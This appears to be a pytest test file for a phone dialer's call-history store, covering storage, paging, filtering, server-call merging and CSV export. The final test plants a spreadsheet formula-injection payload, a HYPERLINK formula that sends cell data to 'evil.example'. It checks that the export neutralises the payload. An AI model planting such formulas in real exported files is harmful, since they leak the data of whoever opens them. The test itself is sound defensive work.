from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from dialer.core.calls import LegState
from dialer.store.history import HistoryFilter, HistoryRow, HistoryStore

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def _row(i: int, **kw: object) -> HistoryRow:
    fields: dict[str, object] = dict(
        id=None, provider="ringez", account_id=None, provider_call_id=None, destination=f"+44207946{i:04d}",
        display_name=None, mode="bridge", origin="window", state="completed",
        legs={"self": "completed", "destination": "completed"}, started_at=T0 + timedelta(minutes=i),
        finished=True)
    fields.update(kw)
    return HistoryRow(**fields)  # type: ignore[arg-type]


def test_add_and_get_round_trip_every_field(history: HistoryStore) -> None:
    row = _row(1, provider_call_id="abc", display_name="Zoë", answered_at=T0 + timedelta(seconds=9),
               ended_at=T0 + timedelta(seconds=70), duration_s=61, cost=Decimal("0.0125"), currency="EUR",
               error=None, origin="tel-link", state=LegState.COMPLETED)
    row_id = history.add(row)
    got = history.get(row_id)
    assert got == row  # LegState is a str enum: equal to its stored value
    assert got is not None and got.started_at.tzinfo is not None and got.cost == Decimal("0.0125")


def test_naive_datetimes_are_refused(history: HistoryStore) -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        history.add(_row(1, started_at=datetime(2026, 1, 1)))


def test_update_changes_only_the_given_fields(history: HistoryStore) -> None:
    row_id = history.add(_row(1, state="ringing", finished=False, legs={"self": "ringing"}))
    assert [r.id for r in history.unfinished()] == [row_id]
    history.update(row_id, state="busy", legs={"self": "answered", "destination": "busy"}, finished=True,
                   ended_at=T0 + timedelta(minutes=2), error="The line was busy.")
    got = history.get(row_id)
    assert got is not None
    assert (got.state, got.legs["destination"], got.finished, got.error) == ("busy", "busy", True,
                                                                              "The line was busy.")
    assert got.ended_at == T0 + timedelta(minutes=2) and got.destination == "+442079460001"
    assert history.unfinished() == []
    with pytest.raises(TypeError, match="colour"):
        history.update(row_id, colour="red")


def test_page_is_newest_first_and_filters(history: HistoryStore) -> None:
    history.add_many(_row(i, provider="calledin" if i % 2 else "ringez", state="busy" if i % 5 == 0 else "completed")
                     for i in range(30))
    page = history.page(0, 10)
    assert [r.started_at for r in page] == sorted((r.started_at for r in page), reverse=True)
    assert page[0].destination == "+442079460029"
    assert [r.destination for r in history.page(10, 2)] == ["+442079460019", "+442079460018"]
    assert history.count() == 30
    assert history.count(HistoryFilter(provider="calledin")) == 15
    assert history.count(HistoryFilter(state="busy")) == 6
    assert {r.provider for r in history.page(0, 100, HistoryFilter(provider="calledin"))} == {"calledin"}
    since = HistoryFilter(since=T0 + timedelta(minutes=25), until=T0 + timedelta(minutes=28))
    assert [r.destination[-2:] for r in history.page(0, 100, since)] == ["27", "26", "25"]
    assert history.count(HistoryFilter(text="79460012")) == 1


def test_text_filter_matches_display_name_case_insensitively(history: HistoryStore) -> None:
    history.add(_row(1, display_name="Grace Hopper"))
    history.add(_row(2, display_name="Alan Turing"))
    assert [r.display_name for r in history.page(0, 10, HistoryFilter(text="hopper"))] == ["Grace Hopper"]


def test_keyset_paging_walks_every_row_once(history: HistoryStore) -> None:
    history.add_many(_row(i % 7, provider_call_id=f"c{i}") for i in range(25))  # many equal start times
    seen: list[int] = []
    last = None
    while batch := history.page_before(last, 4):
        seen += [r.id for r in batch if r.id is not None]
        last = batch[-1]
    assert sorted(seen) == sorted(r.id for r in history.page(0, 100) if r.id is not None)
    assert len(seen) == len(set(seen)) == 25


@dataclass(frozen=True)
class _ServerCall:
    call_id: str
    destination: str
    state: LegState
    duration_s: int | None
    cost: Decimal | None
    started_at: datetime | None


def test_merge_server_calls_adds_only_unknown_calls(history: HistoryStore) -> None:
    history.add(_row(1, provider_call_id="r-1"))
    calls = [_ServerCall("r-1", "+442079460001", LegState.COMPLETED, 60, Decimal("0.1"), T0),
             _ServerCall("r-2", "+442079460002", LegState.NO_ANSWER, 0, None, T0 + timedelta(hours=1))]
    assert history.merge_server_calls("ringez", None, calls) == 1
    assert history.merge_server_calls("ringez", None, calls) == 0
    assert history.count() == 2
    merged = history.find_by_provider_call("ringez", "r-2")
    assert merged is not None and merged.state == "no-answer" and merged.finished
    # The same call id at another provider is a different call.
    assert history.merge_server_calls("calledin", None, calls[:1]) == 1


def test_recent_numbers_are_distinct_and_newest_first(history: HistoryStore) -> None:
    for i, number in enumerate(["+1", "+2", "+1", "+3", "+3"]):
        history.add(_row(i, destination=number))
    assert history.recent_numbers(limit=2) == ["+3", "+1"]
    assert history.recent_numbers() == ["+3", "+1", "+2"]


def test_a_history_export_never_carries_a_live_spreadsheet_formula(history: HistoryStore, tmp_path: object) -> None:
    import csv
    from pathlib import Path

    from dialer.store.exporting import export_history_csv

    history.add(_row(1, display_name='=HYPERLINK("http://evil.example/?"&A1,"Call me")'))
    history.add(_row(2, display_name="@SUM(1+1)", error="-2+3"))
    history.add(_row(3, display_name="Ada Lovelace"))
    path = Path(str(tmp_path)) / "calls.csv"
    assert export_history_csv(history, path) == 3
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    names = [r["display_name"] for r in rows]
    assert names == ["Ada Lovelace", "'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?"&A1,"Call me")']
    assert rows[1]["error"] == "'-2+3"
    assert all(r["destination"].startswith("'+44") for r in rows)  # stays a phone number, not 442079460001
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
